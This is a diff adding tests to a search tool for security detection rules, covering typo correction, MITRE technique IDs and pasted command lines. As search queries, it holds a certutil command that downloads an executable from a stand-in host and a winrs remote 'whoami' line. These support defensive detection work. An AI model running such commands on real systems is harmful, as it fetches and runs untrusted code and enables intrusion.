@@ -8,7 +8,9 @@ import { indexCatalog } from "../catalog/views.ts"
 import { buildSearchIds, buildSearchIndex, type SearchData, type SearchIds } from "./build-index.ts"
 import { addIds, loadSearchIndex, queryNeedsIds } from "./load-index.ts"
 import { packRecords, searchRecords, unpackRecords } from "./records.ts"
+import { indicatorsFirst } from "./query.ts"
 import { runSearch } from "./run.ts"
+import { exportTermIndex, oneEditNeighbours, words, type SavedTermIndex } from "./term-index.ts"
 
 const TREE = "lib/catalog/__fixtures__/tree"
 const catalog = indexCatalog(loadCatalog({ roots: [TREE] }))
@@ -133,6 +135,49 @@ describe("runSearch on the fixture catalog", () => {
   })
 })
 
+describe("term index (FlexSearch)", () => {
+  it("keeps digit runs whole: T1059.001 is t1059 and 001, and T1047 never matches T1104", () => {
+    expect(words("T1059.001 Command")).toEqual(["t1059", "001", "command"])
+    const byId = runSearch(search, "T1047").hits
+    expect(byId.length).toBeGreaterThan(0)
+    expect(byId.every((h) => h.techniques.some((t) => t.startsWith("T1047")))).toBe(true)
+  })
+  it("imports what it exported and answers as the index it was built as", async () => {
+    const saved = await exportTermIndex(search.terms)
+    const again = loadSearchIndex(data, ids, JSON.parse(JSON.stringify(saved)) as SavedTermIndex)
+    for (const q of ["winrs", "wmic.exe", "remote", "T1021", "-enc", "process_name"]) expect(runSearch(again, q)).toEqual(runSearch(search, q))
+    expect(again.terms.sources.map((src) => src.dictionary)).toEqual(search.terms.sources.map((src) => src.dictionary))
+  })
+  it("finds one-edit neighbours, and starts of longer words", () => {
+    expect(oneEditNeighbours(search.terms, "remoet")).toContain("remote")
+    expect(oneEditNeighbours(search.terms, "rmote")).toContain("remote")
+    expect(oneEditNeighbours(search.terms, "rxmxte")).toEqual([])
+  })
+})
+
+describe("typos, pasted command lines, rules before indicators", () => {
+  it("corrects a word that matches nothing and says so", () => {
+    const r = runSearch(search, "winsr")
+    expect(r.corrected).toBe("winrs")
+    expect(r.hits.map((h) => h.name)).toContain("Fixture WinRS Remote Shell")
+    expect(runSearch(search, "winrs").corrected).toBeUndefined()
+    expect(runSearch(search, "zzzzzzzz").total).toBe(0)
+  })
+  it("ranks rules by how many terms of a long query they hit, not requiring all", () => {
+    const line = "winrs.exe -r: whoami /all"
+    const r = runSearch(search, line)
+    expect(r.command).toBe(true)
+    expect(r.hits[0]?.name).toBe("Fixture WinRS Remote Shell")
+    expect(runSearch(search, "winrs.exe whoami").total).toBeLessThanOrEqual(r.total)
+  })
+  it("puts indicator entries first only for an indicator filter or a punctuated value", () => {
+    expect(indicatorsFirst("wmic")).toBe(false)
+    expect(indicatorsFirst("wmic.exe")).toBe(true)
+    expect(indicatorsFirst("indicator:wmic")).toBe(true)
+    expect(indicatorsFirst("wmic remote")).toBe(false)
+  })
+})
+
 describe("Sigma rules of the default content/", async () => {
   const content = indexCatalog(loadCatalog({ roots: ["content"] }))
   const s = loadSearchIndex(JSON.parse(JSON.stringify(await buildSearchIndex(content))) as SearchData, buildSearchIds(content))
@@ -181,5 +226,18 @@ describe.skipIf(!present)("search over both corpora (security_content and sigma)
     const full = runSearch(s, "windows", {}, 100000).hits.map((h) => h.rule)
     expect(runSearch(s, "windows", {}, 20).hits.map((h) => h.rule)).toEqual(full.slice(0, 20))
     expect(runSearch(s, "source:sysmon", {}, 7).hits.map((h) => h.rule)).toEqual(runSearch(s, "source:sysmon", {}, 100000).hits.slice(0, 7).map((h) => h.rule))
+    // Typos: the intended rules in the top 5, and the correction said.
+    const top = (q: string) => runSearch(s, q, {}, 5)
+    expect(top("mimikats").corrected).toBe("mimikatz")
+    expect(top("mimikats").hits.every((h) => /mimikatz/i.test(h.name))).toBe(true)
+    expect(top("kerberost").corrected).toBe("kerberoast")
+    expect(top("kerberost").hits.some((h) => /kerberoast/i.test(h.name))).toBe(true)
+    expect(top("powershel").hits.every((h) => /powershell/i.test(h.name))).toBe(true)
+    // A pasted command line: five rules or more, both formats, the Sigma certutil download rule among them.
+    const line = runSearch(s, "certutil -urlcache -split -f http://x.example/a.exe a.exe", {}, 50)
+    expect(line.command).toBe(true)
+    expect(line.total).toBeGreaterThanOrEqual(5)
+    expect(new Set(line.hits.map((h) => h.format))).toEqual(new Set(["splunk", "sigma"]))
+    expect(line.hits.slice(0, 10).map((h) => h.name)).toContain("Suspicious Download Via Certutil.EXE")
   })
 })
